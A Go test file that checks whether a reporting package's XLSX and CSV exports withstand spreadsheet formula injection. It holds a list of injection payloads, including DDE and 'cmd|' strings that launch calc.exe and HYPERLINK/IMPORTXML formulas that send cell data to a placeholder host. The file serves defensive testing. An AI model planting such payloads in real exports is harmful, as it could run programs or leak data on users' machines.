package reports_test

import (
	"bytes"
	"fmt"
	"hash/fnv"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/stretchr/testify/require"

	"chengan/reports"
)

// formulaPayloads are what somebody may write to have a spreadsheet compute it,
// open an address or start a program.
var formulaPayloads = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\x09=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1",
	"=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "=DDE(\"cmd\";\"/C calc\";\"x\")",
	"=HYPERLINK(\"http://example.invalid/?\"&A1,\"点这里\")", "=IMPORTXML(\"http://example.invalid\",\"//a\")", "=IMPORTDATA(\"http://example.invalid\")", "=WEBSERVICE(\"http://example.invalid\")", "=IMAGE(\"http://example.invalid\")",
	" =1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\"=1+1", "\"\"=1+1", "'=1+1", "\u00ad=1+1",
	"=R1C1+R[1]C[1]", "{=SUM(A1:A9)}", "=_xlfn.CONCAT(A1:B2)", "=_xlws.FILTER(A1,1)", "_x003D_1+1", "=得分表!A1", "='得分表'!$A$1", "\",=1+1", ";=1+1", ",=1+1", "\r\n=1+1,=2", "=1+1\x00", "</f><f>1+1</f>", "]]><f>1+1</f>", "&quot;=1+1", "1 =1", "#REF!", "#N/A", "TRUE", "1e5", "007", "2022-12-29", "1/5",
}

// closed are fields that hold words of the program, never of people.
var closed = []string{"Type", "Schema", "Op", "Mode", "NoEvidence", "NotApplicable", "Status", "PointsStatus", "TextStatus", "Verdict", "Kind", "Pattern"}

// infect puts a text before every text of a run, names and ids alike; before
// the same text always the same, so that what belongs together still does.
func infect(v reflect.Value, payload func(text string) string) {
	switch v.Kind() {
	case reflect.Pointer:
		if !v.IsNil() && v.Type().Elem().PkgPath() != "chengan/engine/exact" {
			infect(v.Elem(), payload)
		}
	case reflect.Slice:
		if v.Len() > 0 { // the sample's own lists stay as they are
			v.Set(reflect.AppendSlice(reflect.MakeSlice(v.Type(), 0, v.Len()), v))
		}
		for i := range v.Len() {
			infect(v.Index(i), payload)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if !slices.Contains(closed, v.Type().Field(i).Name) || v.Field(i).Kind() != reflect.String {
				infect(v.Field(i), payload)
			}
		}
	case reflect.String:
		if v.CanSet() && v.Len() > 0 {
			v.SetString(payload(v.String()) + v.String())
		}
	}
}

// always is one payload before everything.
func always(payload string) func(string) string { return func(string) string { return payload } }

// mixed are all payloads, spread over the texts, in another way for every turn.
func mixed(turn int) func(string) string {
	return func(text string) string {
		hash := fnv.New32a()
		fmt.Fprint(hash, turn, text)
		return formulaPayloads[int(hash.Sum32()%uint32(len(formulaPayloads)))]
	}
}

// infected is a small run, or several rounds of it, full of payloads.
func infected(t *testing.T, rounds int, payload func(text string) string) *reports.Model {
	t.Helper()
	var list []reports.Source
	for i := range rounds {
		s := sample{seed: uint64(60 + i), small: true, subjects: cityAndUnits()[:2]}
		run := s.run()
		run.Header.Round, run.Header.Evidence.Digest = fmt.Sprint("第", i), fmt.Sprint("sha256:", i)
		for k := range run.Header.Ruleset.Clauses {
			run.Header.Ruleset.Clauses[k].Support = []string{"配合"}
		}
		infect(reflect.ValueOf(run).Elem(), payload)
		run.Header.Date = fmt.Sprintf("2022-12-%02d", 10+i)
		run.Summary.Digest = fmt.Sprint("sha256:", i)
		list = append(list, reports.Source{Name: "r", Run: run})
	}
	if rounds == 1 {
		list[0].Run.Header.Date = payload("") + list[0].Run.Header.Date // a date that is none
		model, err := reports.New(list[0].Run)
		require.NoError(t, err)
		return model
	}
	model, err := reports.NewSeries(list)
	require.NoError(t, err)
	return model
}

// ours is one piece of a formula of ours: places, numbers, functions and words of
// the program.
var ours = regexp.MustCompile(`^(?:'(?:得分表|得分汇总)'!|(?:ROUND|SUM|MIN|MAX|IF|OR|AND|N|ISNUMBER|INDEX|MATCH|VALUE|LEFT|FIND|SUMIFS|COUNTIFS?|SUBTOTAL)\(|` +
	`\$?[A-Z]{1,2}\$?\d+|\d+(?:\.\d+)?|[-+*/&<>=,():]|"(?:|—|<=|>| |<=\d+|>\d+|一致|不一致|已改动|试改|与评价结果一致|合格|不合格|待定|否决|无|已触发|不能排除|无适用条款|不设合格线|` +
	`扣分|未提交|待评|无法评价|未开始|整改中|已完成待复核|已超期|未到期|7日内到期|缺完成日期|逾期完成|按期完成|未开始,整改中,已完成待复核)")`)

func requireOurs(t *testing.T, formula, where string) {
	t.Helper()
	formula = strings.NewReplacer("&quot;", `"`, "&#34;", `"`, "&gt;", ">", "&lt;", "<", "&amp;", "&", "&#39;", "'").Replace(formula)
	for rest := formula; rest != ""; {
		piece := ours.FindString(rest)
		require.NotEmpty(t, piece, "%s：%s 中的 %s", where, formula, rest)
		rest = rest[len(piece):]
	}
}

var (
	anyFormula = regexp.MustCompile(`(?s)<(f|formula|formula1|formula2)>(.*?)</`)
	anyName    = regexp.MustCompile(`(?s)<definedName [^>]*name="([^"]*)"[^>]*>(.*?)</definedName>`)
	ourRange   = regexp.MustCompile(`^'?[\p{Han}]{2,4}'?!\$?[A-Z]*\$?\d+:\$?[A-Z]*\$?\d+$`)
)

// TestXLSXHoldsOurFormulasOnly: whatever stands in the data, formulas, names,
// choices and conditions of the workbook are made of our own words; nothing
// links anywhere.
func TestXLSXHoldsOurFormulasOnly(t *testing.T) {
	require.GreaterOrEqual(t, len(formulaPayloads), 30)
	for i, payload := range append(formulaPayloads, hostileName) {
		content := workbook(t, infected(t, 1+i%2, always(payload)))
		count := 0
		for name, text := range parts(t, content) {
			require.NotRegexp(t, `(?i)externalLink|connections|comments|vmlDrawing|hyperlink|oleObject`, name)
			require.NotRegexp(t, `<(hyperlink|oleObject|control|dataConsolidate|webPublish)`, text, name)
			require.NotContains(t, text, `TargetMode="External"`, name)
			require.NotRegexp(t, `<f [^>]*>`, text, "%s: no arrays", name)
			for _, found := range anyFormula.FindAllStringSubmatch(text, -1) {
				requireOurs(t, found[2], name)
				count++
			}
			for _, found := range anyName.FindAllStringSubmatch(text, -1) {
				require.Contains(t, []string{"_xlnm.Print_Titles", "_xlnm.Print_Area", "_xlnm._FilterDatabase"}, found[1])
				require.Regexp(t, ourRange, strings.ReplaceAll(found[2], "&#39;", "'"))
			}
		}
		require.Greater(t, count, 100)
	}
}

// TestTextsStayTexts: LibreOffice opens the workbooks without computing or losing
// any text of the data.
func TestTextsStayTexts(t *testing.T) {
	var files [][]byte
	for turn := range 6 {
		files = append(files, workbook(t, infected(t, 1+turn%2, mixed(turn))))
	}
	begin := map[string]int{}
	for i, book := range recalculated(t, files...) {
		own := map[string]bool{}
		for _, f := range formulas(t, files[i]) {
			own[f.sheet+f.cell] = true
		}
		flat := strings.NewReplacer("\r\n", "\n", "\r", "\n")
		for sheet, list := range cells(t, files[i]) {
			for cell, text := range list {
				if own[sheet+cell] {
					continue
				}
				require.True(t, same(flat.Replace(text), flat.Replace(book[sheet][cell])), "%s!%s 为 %q，应为 %q", sheet, cell, book[sheet][cell], text)
				for _, payload := range formulaPayloads {
					if strings.HasPrefix(text, strings.NewReplacer("\r", "", "\x00", "", "\u202e", "").Replace(payload)) {
						begin[payload]++
					}
				}
			}
		}
	}
	for _, payload := range formulaPayloads {
		require.Greater(t, begin[payload], 20, "%q", payload)
	}
}

// TestCSVGuardsEveryPayload: no cell of a text begins as a formula does, seen or
// unseen.
func TestCSVGuardsEveryPayload(t *testing.T) {
	format, _ := reports.Find("csv")
	for i, payload := range formulaPayloads {
		var out bytes.Buffer
		require.NoError(t, format.Write(&out, infected(t, 1+i%2, always(payload))))
		for _, row := range csvRows(t, out.Bytes()) {
			for column, cell := range row {
				seen := strings.TrimLeftFunc(cell, func(r rune) bool { return r == '"' || unicode.IsSpace(r) || unicode.In(r, unicode.C) })
				require.False(t, seen != "" && strings.ContainsRune("=+-@＝＋－＠﹦﹢﹣﹫", []rune(seen)[0]), "%q：第%d列 %q", payload, column+1, cell)
			}
		}
	}
}
